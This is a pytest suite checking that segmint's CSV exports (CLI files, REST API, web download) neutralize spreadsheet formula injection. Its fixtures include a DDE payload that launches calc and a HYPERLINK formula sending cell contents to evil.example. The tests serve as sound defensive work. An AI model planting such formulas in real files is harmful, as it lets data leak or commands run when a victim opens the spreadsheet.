"""CSV formula injection: no CSV segmint writes makes a spreadsheet run a cell as a formula.

The pipeline runs on a generated shop whose data is hostile (customer ids, an attribute and a
category that start with ``=``, ``+``, ``-``, ``@``), with a rule named ``@SUM(1+1)`` and a
segment renamed over the REST API to a ``HYPERLINK`` formula. Every CSV is then fetched the
way a user gets it (the CLI's ``--out`` files, the API over real HTTP, the web page's
download link after signing in) and parsed with the ``csv`` module: no cell may start with a
formula character unless it is a number, a neutralized cell is the original with one ``'``
in front, and numbers (negative amounts too) come back byte for byte.
"""

from __future__ import annotations

import csv
import io
import re
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import duckdb
import httpx
import ibis
import pandas as pd
import pytest
from typer.testing import CliRunner

import segmint
from segmint.cli import app as cli
from segmint.exceptions import WorkspaceError
from segmint.store.csvsafe import (
    FORMULA_STARTS,
    frame_to_csv,
    frame_to_csv_text,
    neutralize,
    neutralize_frame,
    neutralize_table,
    table_to_csv,
)
from tests.conftest import shared_file

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RULE = "@SUM(1+1)"
HOSTILE_IDS = ["+cmd|' /C calc'!A0", "=1+1", "-12", RULE, HYPERLINK, "+44 20 7946 0958"]
HOSTILE_TIERS = ["=2+5", "-gold", "@silver", "bronze"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:  # a CR inside a cell stays a CR
        return list(csv.reader(fh))


def dangerous(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS and cell != ""


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(rows: list[list[str]], numeric: set[str] | frozenset[str] = frozenset()) -> None:
    """No cell starts a formula; a cell of a numeric column that starts with '-' is a number."""
    header = rows[0]
    assert not [h for h in header if dangerous(h)], header
    bad = [
        (header[i], cell)
        for row in rows[1:]
        for i, cell in enumerate(row)
        if dangerous(cell) and not (header[i] in numeric and is_number(cell))
    ]
    assert not bad, bad[:10]


def original(cell: str) -> str:
    """What a neutralized cell held: one leading quote removed, nothing else."""
    return cell[1:] if cell[:1] == "'" and dangerous(cell[1:]) else cell


# ------------------------------------------------------------------ the rule itself


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_one_quote_and_nothing_else_changes(start: str) -> None:
    value = f'{start}1+1 ; "quoted", x'
    assert neutralize(value) == "'" + value
    text = frame_to_csv_text(pd.DataFrame({"v": [value]}))
    assert rows_of(text) == [["v"], ["'" + value]]


@pytest.mark.parametrize("value", ["", "Champions", " =1+1", "a=b", "'=x", "€5", "0-1", "1e-5"])
def test_harmless_text_is_written_unchanged(value: str) -> None:
    assert neutralize(value) == value
    assert rows_of(frame_to_csv_text(pd.DataFrame({"v": [value]})))[1] == [value]


def frame_with_every_kind() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "customer_id": ["-12", "+44 20 7946 0958", "C1", HYPERLINK],
            "spend": [-3.5, -1200.25, 0.1 + 0.2, 1e-7],
            "orders": pd.array([-2, 0, None, 7], dtype="Int64"),
            "count": [-1, 2, 3, 4],
            "flag": [True, False, True, False],
            "mixed": [Decimal("-9.99"), -4, "-text", None],
            "tier": pd.Categorical(["=2+5", "-gold", "@silver", "bronze"]),
            "at": pd.to_datetime(["2024-01-01", "2024-02-01", None, "2024-03-01"]),
            "hashed": ["-keep", "=keep", "ok", "+keep"],
        }
    )


def test_a_frame_neutralizes_text_cells_and_keeps_numbers_byte_for_byte() -> None:
    frame = frame_with_every_kind()
    plain = rows_of(frame.to_csv(index=False))
    safe = rows_of(frame_to_csv_text(frame, exact=["hashed"]))
    header = plain[0]
    for i, (got_row, want_row) in enumerate(zip(safe[1:], plain[1:], strict=True)):
        for name, got, want in zip(header, got_row, want_row, strict=True):
            text = isinstance(frame.at[i, name], str) and name != "hashed"
            if text and dangerous(want):
                assert got == "'" + want, (name, got)
            else:  # numbers, dates, booleans and the exact column: the bytes pandas writes
                assert got == want, (name, got, want)
    assert [r[1] for r in safe[1:]] == ["-3.5", "-1200.25", "0.30000000000000004", "1e-07"]
    assert [r[5] for r in safe[1:]] == ["-9.99", "-4", "'-text", ""]
    assert [r[8] for r in safe[1:]] == ["-keep", "=keep", "ok", "+keep"]
    assert frame.equals(frame_with_every_kind()), "the caller's frame was changed"


def test_a_workspace_table_is_neutralized_by_the_engine_and_numbers_are_untouched(
    tmp_path: Path,
) -> None:
    con = ibis.duckdb.connect()
    con.raw_sql(
        "CREATE TABLE t AS SELECT * FROM (VALUES "
        "('-12', -3.5::DOUBLE, -7::INTEGER, -1.10::DECIMAL(9, 2), '=2+5', 'ab'), "
        "(chr(9) || 'tab', 2.0, 0, 0.00, chr(13) || 'cr', '=keep'), "
        "('+cmd|'' /C calc''!A0', NULL, NULL, NULL, NULL, NULL), "
        "('C1', 1e300, 3, 12.34, 'plain', '-keep')"
        ") v(customer_id, spend, n, price, tier, hashed)"
    )
    table = con.table("t")
    safe = neutralize_table(table, exact=["hashed"])
    assert "CASE" in ibis.to_sql(safe), "the rule must run in the engine, not in Python"
    plain_path, safe_path = tmp_path / "plain.csv", tmp_path / "safe.csv"
    table.to_csv(plain_path)
    table_to_csv(table, safe_path, exact=["hashed"])
    plain = read_rows(plain_path)
    got = read_rows(safe_path)
    assert got[0] == plain[0]
    for got_row, want_row in zip(got[1:], plain[1:], strict=True):
        for name, cell, want in zip(plain[0], got_row, want_row, strict=True):
            text = name in {"customer_id", "tier"}
            assert cell == ("'" + want if text and dangerous(want) else want), (name, cell)
    assert got[1][1:4] == ["-3.5", "-7", "-1.10"]
    assert [r[0] for r in got[1:]] == ["'-12", "'\ttab", "'+cmd|' /C calc'!A0", "C1"]
    assert [r[5] for r in got[1:]] == ["ab", "=keep", "", "-keep"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plain.csv", "safe.csv"]


@pytest.mark.parametrize("dtype", ["str", "string", "object", "category"])
def test_missing_values_stay_missing_in_every_text_dtype(dtype: str) -> None:
    frame = pd.DataFrame({"v": pd.Series(["=x", None, "b", "-1"], dtype=dtype)})
    assert rows_of(frame_to_csv_text(frame)) == [["v"], ["'=x"], [""], ["b"], ["'-1"]]


def test_hostile_headers_are_neutralized_too() -> None:
    frame = pd.DataFrame({"=cmd": ["x"], "ok": [1]})
    assert rows_of(frame_to_csv_text(frame))[0] == ["'=cmd", "ok"]
    table = ibis.memtable(frame)
    assert neutralize_table(table).columns == ("'=cmd", "ok")


def test_exact_takes_column_names_only() -> None:
    frame = pd.DataFrame({"email": ["=x"]})
    with pytest.raises(TypeError, match="collection of column names"):
        neutralize_frame(frame, exact="email")
    with pytest.raises(ValueError, match="does not have"):
        neutralize_frame(frame, exact=["e_mail"])


def test_a_failed_export_leaves_no_file_behind(tmp_path: Path) -> None:
    table = ibis.memtable(pd.DataFrame({"id": ["=x"], "n": ["not a number"]}))
    broken = table.mutate(n=table.n.cast("int64"))  # fails while the engine writes
    target = tmp_path / "out.csv"
    with pytest.raises(duckdb.Error):
        table_to_csv(broken, target)
    assert list(tmp_path.iterdir()) == []
    frame_to_csv(pd.DataFrame({"id": ["=x"]}), target)
    assert target.read_text(encoding="utf-8").splitlines() == ["id", "'=x"]
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_an_export_to_a_folder_or_under_a_file_is_a_clear_error(tmp_path: Path) -> None:
    frame = pd.DataFrame({"id": ["=x"]})
    with pytest.raises(WorkspaceError, match="that is a folder"):
        frame_to_csv(frame, tmp_path)
    (tmp_path / "file").write_text("x", encoding="utf-8")
    with pytest.raises(WorkspaceError, match="Could not write the CSV file"):
        table_to_csv(ibis.memtable(frame), tmp_path / "file" / "out.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file"]


# ------------------------------------------------------------------ the real pipeline


@dataclass
class Shop:
    root: Path
    workspace: Path
    ids: set[str]


def hostile_shop(root: Path) -> tuple[Path, Path, set[str]]:
    """A generated shop whose ids, an attribute and a category start formulas."""
    tables = segmint.datasets.make_retail(150, seed=7).tables()
    customers, orders = tables["customers"], tables["orders"]
    rename = dict(zip(customers["customer_id"][: len(HOSTILE_IDS)], HOSTILE_IDS, strict=True))
    customers["customer_id"] = customers["customer_id"].replace(rename)
    orders["customer_id"] = orders["customer_id"].replace(rename)
    customers["loyalty_tier"] = [HOSTILE_TIERS[i % 4] for i in range(len(customers))]
    customers["balance"] = [(-1) ** i * (i + 0.25) for i in range(len(customers))]
    orders["category"] = orders["category"].where(orders.index % 4 != 0, "-cmd")
    root.mkdir(parents=True, exist_ok=True)
    customers.to_csv(root / "customers.csv", index=False)
    orders.to_csv(root / "orders.csv", index=False)
    return root / "orders.csv", root / "customers.csv", set(customers["customer_id"])


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Shop:
    root = tmp_path_factory.mktemp("inject")
    orders, customers, ids = hostile_shop(root / "data")
    spec = root / "spec.yaml"
    spec.write_text(
        f"sources: [{{path: '{orders}'}}, {{path: '{customers}'}}]\n"
        "segmentations:\n"
        "  - name: rules\n"
        "    method: rules\n"
        f"    rules: {{'{RULE}': frequency >= 10, '-Others': frequency < 10}}\n"
        "  - {name: clusters, method: kmeans, k: 3}\n",
        encoding="utf-8",
    )
    ws = root / "w.duckdb"
    runner = CliRunner()
    for args in (
        ["run", "--spec", str(spec), "--out", str(root / "report")],
        ["features", "--out", str(root / "features.csv")],
        ["value", "--penalizer", "0.001", "--out", str(root / "value.csv")],
    ):
        result = runner.invoke(cli, [*args, "-w", str(ws)])
        assert result.exit_code == 0, result.output
    return Shop(root, ws, ids)


def test_cli_features_export_is_safe_and_numbers_round_trip(shop: Shop) -> None:
    with segmint.Workspace(shop.workspace, read_only=True) as ws:
        table = ws.table("customer_features")
        numeric = {n for n, t in table.schema().items() if t.is_numeric()}
        table.to_csv(shop.root / "plain-features.csv")  # the bytes without the rule
    plain = read_rows(shop.root / "plain-features.csv")
    got = read_rows(shop.root / "features.csv")
    assert_safe(got, numeric)
    assert got[0] == plain[0] and len(got) == len(plain) == len(shop.ids) + 1
    assert [[original(c) for c in row] for row in got] == plain
    header = got[0]
    column = {name: [row[i] for row in got[1:]] for i, name in enumerate(header)}
    assert {original(c) for c in column["customer_id"]} == shop.ids
    assert {c for c in column["customer_id"] if c.startswith("'")} == {"'" + i for i in HOSTILE_IDS}
    assert set(column["loyalty_tier"]) == {"'=2+5", "'-gold", "'@silver", "bronze"}
    negatives = [c for c in column["balance"] if c.startswith("-")]
    assert len(negatives) >= 70 and all(is_number(c) for c in negatives)


def test_cli_export_to_a_folder_says_so_without_a_traceback(shop: Shop) -> None:
    args = ["value", "--penalizer", "0.001", "--out", str(shop.root), "-w", str(shop.workspace)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 2, result.output
    assert "folder" in " ".join(re.sub("[│╭╮╰╯─]", " ", result.output).split())
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_cli_value_export_is_safe(shop: Shop) -> None:
    got = read_rows(shop.root / "value.csv")
    numeric = set(got[0]) - {"customer_id", "segment"}
    assert_safe(got, numeric)
    ids = [row[got[0].index("customer_id")] for row in got[1:]]
    assert "'" + HOSTILE_IDS[0] in ids and "'-12" in ids


def test_real_tweets_export_keeps_every_tweet_as_text(tmp_path: Path) -> None:
    """Twitter US Airline Sentiment as customers with attributes: almost every tweet starts
    with '@airline', which a spreadsheet reads as a formula. The features CSV (what
    ``segmint features --out`` writes) quotes them and leaves the numbers alone."""
    tweets = shared_file("twitter_us_airline_sentiment", "Tweets.csv")
    with segmint.Workspace(tmp_path / "t.duckdb") as ws:
        ws.ingest(tweets, into="customers", mapping={"customer_id": "tweet_id"})
        ws.clean()
        table = ws.features()
        numeric = {n for n, t in table.schema().items() if t.is_numeric()}
        table.to_csv(tmp_path / "plain.csv")
        table_to_csv(table, tmp_path / "features.csv")
    plain, got = read_rows(tmp_path / "plain.csv"), read_rows(tmp_path / "features.csv")
    assert_safe(got, numeric)
    assert [[original(c) for c in row] for row in got] == plain
    text = [row[got[0].index("text")] for row in got[1:]]
    quoted = sum(c.startswith("'@") for c in text)
    assert quoted > 0.95 * len(text), (quoted, len(text))  # 14,021 of 14,485 rows
    assert {"airline_sentiment_confidence", "retweet_count"} <= numeric


# ------------------------------------------------------------------ the server, over HTTP


@dataclass
class Server:
    url: str
    token: str
    run_id: str
    ids: set[str]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def server(shop: Shop) -> Iterator[Server]:
    import uvicorn

    from segmint.api import Settings, create_app, first_admin_token

    app = create_app(Settings(workspace=shop.workspace))
    token = first_admin_token(app)
    assert token
    port = _free_port()
    config = uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="on")
    uv = uvicorn.Server(config)
    thread = threading.Thread(target=uv.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not uv.started:
        assert time.monotonic() < deadline, "the server did not start"
        time.sleep(0.05)
    url = f"http://127.0.0.1:{port}"
    runs = httpx.get(f"{url}/api/v1/runs", headers={"Authorization": f"Bearer {token}"}).json()
    run_id = runs[0]["run_id"]  # newest first: the run of the spec
    try:
        yield Server(url, token, run_id, shop.ids)
    finally:
        uv.should_exit = True
        thread.join(timeout=10)
        app.state.segmint.close()


def test_api_members_csv_after_a_hostile_rename(server: Server) -> None:
    auth = {"Authorization": f"Bearer {server.token}"}
    seg = f"{server.url}/api/v1/runs/{server.run_id}/segmentations"
    label = httpx.get(f"{seg}/clusters", headers=auth).json()["profiles"]["segments"][0]["label"]
    renamed = httpx.patch(
        f"{seg}/clusters/segments/{label}", headers=auth, json={"name": HYPERLINK}
    )
    assert renamed.status_code == 200, renamed.text
    seen: dict[str, set[str]] = {}
    for name in ("rules", "clusters"):
        response = httpx.get(f"{seg}/{name}/members.csv", headers=auth)
        assert response.status_code == 200, response.text
        rows = rows_of(response.text)
        assert rows[0] == ["customer_id", "segment", "segment_name"]
        assert_safe(rows)
        assert {original(r[0]) for r in rows[1:]} == server.ids
        seen[name] = {cell for row in rows[1:] for cell in row[1:]}
    assert "'" + RULE in seen["rules"] and "'-Others" in seen["rules"]
    assert "'" + HYPERLINK in seen["clusters"]
    one = httpx.get(f"{seg}/rules/members.csv", headers=auth, params={"segment": RULE})
    assert_safe(rows_of(one.text))
    assert {r[2] for r in rows_of(one.text)[1:]} == {"'" + RULE}


def test_web_members_download_is_safe(server: Server) -> None:
    with httpx.Client(base_url=server.url) as client:
        form = client.get("/signin").text
        found = re.search(r'name="csrf" value="([^"]+)"', form)
        assert found
        client.post("/signin", data={"token": server.token, "csrf": found.group(1), "next": "/"})
        response = client.get(f"/runs/{server.run_id}/members.csv", params={"s": "rules"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = rows_of(response.text)
    assert_safe(rows)
    assert {original(r[0]) for r in rows[1:]} == server.ids
    assert "'" + RULE in {r[2] for r in rows[1:]}
